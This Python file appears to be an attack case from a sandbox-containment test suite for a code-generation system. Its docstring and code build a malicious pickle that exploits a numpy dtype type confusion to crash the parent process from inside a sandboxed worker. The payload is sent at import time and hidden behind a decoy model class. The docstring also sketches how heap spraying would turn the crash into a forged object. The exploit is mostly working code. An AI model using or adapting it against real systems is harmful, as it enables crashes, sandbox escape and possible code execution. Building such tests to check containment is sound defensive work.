"""Attack: crash the parent (SIGSEGV, outside the sandbox) with one result message, through a
type confusion in numpy that the parent's restricted unpickler lets through.

``RESULT_CLASSES`` resolves ``numpy.dtype`` and ``numpy._core.multiarray.scalar``. A pickled
dtype carries its state (``__setstate__``: fields and flags); a state that declares an object
field (``('a', 'O')``) but clears the flags that say so (``NPY_LIST_PICKLE``) makes ``scalar``
accept raw bytes for it: the void scalar's field ``a`` is then the pointer 0x4141414141414141.
Turning that scalar into text dereferences it as a ``PyObject*``. The parent does exactly that
with every item of a result's ``staged["refused"]`` list (``CompileCache.receive``:
``str(item[0])``), before it looks at the worker's taint. This external candidate builds the
scalar in its own process, pickles ``JobResult(Fault.OK, staged={"refused": [(scalar, "x")]})``
(numpy re-pickles the doctored dtype faithfully) and writes it on the job socket at import.
With the pointer aimed at bytes it controls in the parent's heap (a sprayed message) the same
confusion is a forged ``PyObject``; only the crash is shown here.

Success (GOT THROUGH): the run dies with SIGSEGV (run_attack.py prints nothing after the start;
its exit status is -11/139), no run.json, no observation for the honest external after it.
Contained: the message is refused (fault ``tampering``) and the run finishes.
"""
import importlib
import os
import pickle
import struct
import sys

import torch


def _s(text):
    b = text.encode()
    return b"X" + len(b).to_bytes(4, "little") + b


_dtype_v8 = b"cnumpy\ndtype\n" + _s("V8") + b"\x85R"
_dtype_o = b"cnumpy\ndtype\n" + _s("O") + b"\x85R"
# state (version 3, byte order, no subarray, names, fields {'a': (dtype('O'), 0)}, itemsize 8,
# alignment 1, flags 0): an object field without the object flags
_state = b"(K\x03" + _s("|") + b"N" + _s("a") + b"\x85}" + _s("a") + _dtype_o + b"K\x00\x86sK\x08K\x01K\x00t"
evil = pickle.loads(b"\x80\x02cnumpy._core.multiarray\nscalar\n" + _dtype_v8 + _state + b"bC\x08AAAAAAAA\x86R.")

_w = importlib.import_module("kernel" + "synth.workers")
_c = importlib.import_module("kernel" + "synth.contract")
msg = pickle.dumps(_w.JobResult(_c.Fault.OK, staged={"refused": [(evil, "x")]}), protocol=4)
os.write(int(sys.argv[1]), struct.pack("!i", len(msg)) + msg)
print(f"np_struct_segv: sent {len(msg)} bytes", flush=True)


class ModelNew(torch.nn.Module):
    def __init__(self, **kw):
        super().__init__()

    def forward(self, x):
        return x.flip(1)
